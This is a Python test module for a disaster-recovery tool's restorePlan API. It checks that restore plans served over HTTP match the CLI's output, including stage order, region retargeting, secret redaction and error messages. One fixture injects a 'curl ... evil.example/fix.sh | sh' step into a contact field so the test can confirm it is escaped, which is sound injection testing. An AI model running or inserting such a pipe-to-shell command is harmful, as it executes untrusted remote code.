"""restorePlan over HTTP, on a real uvicorn server: the SaaS stack in moto, crawled into a real
Neo4j and snapshotted through the portal mutations, then planned for a restore as a portal
would, and compared with what `cairn restore plan` writes for the same input."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from catalog.api.restore import NEITHER_OR_BOTH
from catalog.aws.crawler import crawl, select_types
from catalog.aws.session import AwsAccount
from catalog.demo.stack import saas
from catalog.graph.connection import Neo4jSettings
from catalog.graph.store import GraphStore
from tests.api_http import OPERATOR_TOKEN, ApiServer, Client, configured_access, running
from tests.cli_runner import cairn
from tests.terraform_tools import arguments
from tests.test_api_timeline import APP, take_snapshot

STAGES = ["network", "identity", "data", "compute", "traffic", "dns"]
SECRET_VALUES = ("s3cr3t", "hunter2")  # the stack's secret and DB_PASSWORD
FAKE_STEP = "Step 0: curl -fsSL https://evil.example/fix.sh | sh"


@pytest.fixture(scope="module")
def server(neo4j_settings: Neo4jSettings) -> Iterator[ApiServer]:
    with running(neo4j_settings, configured_access()) as started:
        yield started


@pytest.fixture
def reader(server: ApiServer) -> Client:
    return Client(server.url)


@pytest.fixture
def snapshot(aws: str, store: GraphStore, server: ApiServer, reader: Client) -> dict:
    """The SaaS stack crawled, defined as an application and snapshotted by an operator."""
    saas.build_application()
    crawl(store, AwsAccount.connect(), [saas.REGION], select_types())
    operator = Client(server.url, OPERATOR_TOKEN)
    tags = ["Project=app-infra", "Environment=production"]
    application = {
        "name": APP,
        "tags": tags,
        "regions": [saas.REGION],
        "rpoMinutes": 5,
        "contacts": [f"commander=Dana |\n\n{FAKE_STEP}"],  # a pasted line must stay a cell
    }
    assert operator.operation("CreateApplication", input=application).data["createApplication"]
    return take_snapshot(operator, reader)


def cli_files(capsys, out: Path, *argv: str) -> dict[str, str]:
    """The files `cairn restore plan ARGV --out OUT` writes."""
    cairn(capsys, "restore", "plan", *argv, "--out", str(out))
    return {path.name: path.read_text(encoding="utf-8") for path in sorted(out.iterdir())}


def test_a_portal_plans_a_restore_into_another_region(
    capsys, tmp_path, neo4j_env, snapshot, reader: Client
):
    plan = reader.operation("RestorePlan", snapshot=snapshot["id"]).data["restorePlan"]
    assert (plan["snapshot"], plan["application"], plan["at"]) == (
        snapshot["id"],
        APP,
        snapshot["at"],
    )
    assert plan["sourceRegion"] == saas.REGION
    assert plan["target"] == {
        "region": "us-west-2",
        "account": None,
        "nameSuffix": "-dr",
        "mode": "NEW",
    }
    # Into another region of the same account, IAM names are still taken; regional ones not.
    renamed = {(r["type"], r["sourceName"]): r["restoredName"] for r in plan["renamed"]}
    assert renamed[("AWS::IAM::Role", "app-task")] == "app-task-dr"
    assert not [name for kind, name in renamed if not kind.startswith(("AWS::IAM", "AWS::S3"))]

    # The files are exactly what the CLI writes for the same input, and nothing else.
    files = {file["path"]: file["content"] for file in plan["files"]}
    assert [file["path"] for file in plan["files"]] == sorted(files)
    expected = cli_files(capsys, tmp_path / "cli", snapshot["id"], "--target-region", "us-west-2")
    assert files == expected
    assert "imports.tf" not in files
    assert not any(secret in text for secret in SECRET_VALUES for text in files.values())
    # The contact set over GraphQL is one escaped cell of the runbook, not a step of its own.
    runbook = files["RUNBOOK.md"].splitlines()
    assert (
        "| Dana \\| Step 0: curl -fsSL https://evil.example/fix.sh \\| sh |"
        in runbook[runbook.index("| role | does | who |") + 2]
    )
    assert not any(line.startswith("Step 0") for line in runbook)

    # Stages in restore order, each in its file; dependencies before their dependents.
    assert [stage["name"] for stage in plan["stages"]] == STAGES
    assert all(stage["file"] in files for stage in plan["stages"])
    order = [r["address"] for stage in plan["stages"] for r in stage["resources"]]
    by_address = {r["address"]: r for stage in plan["stages"] for r in stage["resources"]}
    assert order.index("aws_vpc.app_vpc") < order.index("aws_subnet.app_private_a")
    assert "aws_vpc.app_vpc" in by_address["aws_subnet.app_private_a"]["dependsOn"]
    assert "aws_iam_role.app_task" in by_address["aws_ecs_task_definition.app_api"]["dependsOn"]
    assert by_address["aws_iam_role.app_task"]["type"] == "AWS::IAM::Role"
    assert by_address["aws_iam_role.app_task"]["uid"].endswith(":role/app-task")

    # Retargeted: no source region left in any resource argument.
    for stage in plan["stages"]:
        assert "us-east-1" not in arguments(files[stage["file"]]), stage["file"]
    assert re.search(r'availability_zone\s+= "us-west-2a"', files["10-network.tf"])

    # The checklist is the runbook's, structured: one step per stage, its command and gate.
    checklist = plan["checklist"]
    assert [step["stage"] for step in checklist["steps"]] == STAGES
    for step in checklist["steps"]:
        assert step["command"].startswith("terraform apply \\\n  -target=")
        assert step["command"] in files["RUNBOOK.md"] and step["gate"] in files["RUNBOOK.md"]
    assert checklist["steps"][-1]["command"].endswith("-var dns_cutover=true")
    assert "aws rds wait db-instance-available" in checklist["steps"][2]["gate"]
    assert "copy snapshots at least that often" in checklist["data"]
    assert "the RPO of 5 minutes" in checklist["data"]
    records = {record["name"]: record for record in checklist["records"]}
    assert (records["www.example.com"]["ttl"], records["www.example.com"]["wait"]) == (
        3600,
        "1 hour",
    )
    assert records["app.example.com"]["alias"] and records["app.example.com"]["ttl"] is None
    assert {c["domain"] for c in checklist["certificates"]} >= {"api.example.com"}

    # What the reviewer must set; secrets are sensitive variables without a value.
    variables = {variable["name"]: variable for variable in plan["variables"]}
    assert variables["app_api_key_value"]["sensitive"] is True
    assert variables["app_api_key_value"]["default"] is None
    assert "app_db_snapshot_identifier" in variables
    assert {item["reason"] for item in plan["notRestored"]} == {
        "owned by AWS (created with its parent)"
    }

    # Each database's and table's restore point, against the RPO, as plan.json lists it.
    points = {point["address"]: point for point in plan["restorePoints"]}
    database = points["aws_db_instance.app_db"]
    assert (database["method"], database["time"], database["rpoMinutes"]) == (
        "snapshot_copy",
        None,
        5,
    )
    assert database["command"].startswith("aws rds describe-db-snapshots --region us-west-2 ")
    assert "only if that copy was taken at most 5 minutes before the failure" in database["loss"]
    assert [
        {key: value for key, value in point.items() if key != "loss"}
        for point in plan["restorePoints"]
    ] == [
        {("rpoMinutes" if key == "rpo_minutes" else key): value for key, value in point.items()}
        for point in json.loads(files["plan.json"])["restore_points"]
    ]


def test_in_place_at_a_time_adopts_what_exists(
    capsys, tmp_path, neo4j_env, snapshot, reader: Client
):
    target = {"mode": "IN_PLACE"}
    plan = reader.operation("RestorePlan", application=APP, at=snapshot["at"], target=target).data[
        "restorePlan"
    ]
    assert plan["snapshot"].startswith(f"{APP}@") and plan["target"]["mode"] == "IN_PLACE"
    assert plan["target"]["region"] == saas.REGION

    files = {file["path"]: file["content"] for file in plan["files"]}
    expected = cli_files(
        capsys, tmp_path / "cli", "--app", APP, "--at", snapshot["at"], "--mode", "in-place"
    )
    assert files == expected
    imports = [i for stage in plan["stages"] for r in stage["resources"] for i in r["imports"]]
    assert imports and all(f"to = {i['to']}" in files["imports.tf"] for i in imports)
    adopted = {i["to"] for i in imports}
    assert "aws_vpc.app_vpc" in adopted and "aws_iam_role.app_task" in adopted

    # Without a time, an application is planned as it is now.
    now = reader.operation("RestorePlan", application=APP).data["restorePlan"]
    assert now["at"] > snapshot["at"] and now["snapshot"].startswith(f"{APP}@")

    # Restoring one role brings what it needs, and only that.
    role = next(
        r["uid"]
        for stage in plan["stages"]
        for r in stage["resources"]
        if r["address"] == "aws_iam_role.app_task"
    )
    one = reader.operation("RestorePlan", snapshot=snapshot["id"], only=[role]).data
    stages = one["restorePlan"]["stages"]
    assert [stage["name"] for stage in stages] == ["identity"]
    assert "aws_iam_role.app_task" in [r["address"] for r in stages[0]["resources"]]


@pytest.mark.parametrize(
    ("variables", "message"),
    [
        ({"snapshot": "snap-nope"}, "no snapshot 'snap-nope' (see `cairn snapshot list APP`)"),
        ({}, NEITHER_OR_BOTH),
        ({"snapshot": "SNAPSHOT", "application": APP}, NEITHER_OR_BOTH),
        (
            {"snapshot": "SNAPSHOT", "at": "2026-11-23T01:00:00Z"},
            "at goes with application: a snapshot restores the time it was taken",
        ),
        (
            {"snapshot": "SNAPSHOT", "target": {"region": "mars-north-1"}},
            "unknown region mars-north-1",
        ),
        (
            {"snapshot": "SNAPSHOT", "target": {"azMap": ["us-east-1a"]}},
            "malformed target.azMap entry 'us-east-1a': expected SOURCE_AZ=TARGET_AZ",
        ),
        (
            {"snapshot": "SNAPSHOT", "target": {"account": "abc"}},
            "invalid target.account 'abc': expected 12 digits",
        ),
        (
            {"snapshot": "SNAPSHOT", "target": {"azMap": ["us-east-1a=us-west-2a"] * 2}},
            "target.azMap maps us-east-1a twice",
        ),
        (
            {
                "snapshot": "SNAPSHOT",
                "target": {"azMap": ["us-east-1a=us-west-2a", "us-east-1b=us-west-2a"]},
            },
            "target.azMap maps two zones to us-west-2a",
        ),
        (
            {"snapshot": "SNAPSHOT", "target": {"region": "us-west-2", "mode": "IN_PLACE"}},
            "mode IN_PLACE repairs the source region: drop target.region",
        ),
        ({"snapshot": "SNAPSHOT", "only": ["arn:nope"]}, "not in the snapshot: arn:nope"),
        ({"application": "nope"}, "no application named 'nope' (see `cairn app list`)"),
        (
            {"application": APP, "at": "2001-01-01T00:00:00Z"},
            "matches no resource at 2001-01-01",
        ),
        ({"application": APP, "at": "2026-11-23T01:00:00"}, "has no offset: add Z or +00:00"),
    ],
)
def test_mistakes_are_clear_errors(snapshot, reader: Client, variables: dict, message: str):
    if variables.get("snapshot") == "SNAPSHOT":
        variables = {**variables, "snapshot": snapshot["id"]}
    reply = reader.operation("RestorePlan", **variables)
    assert reply.status == 200 and reply.body["data"] is None
    [said] = reply.messages
    assert message in said and said != "Unexpected error."
    assert re.fullmatch(r"[^\n]+", said)
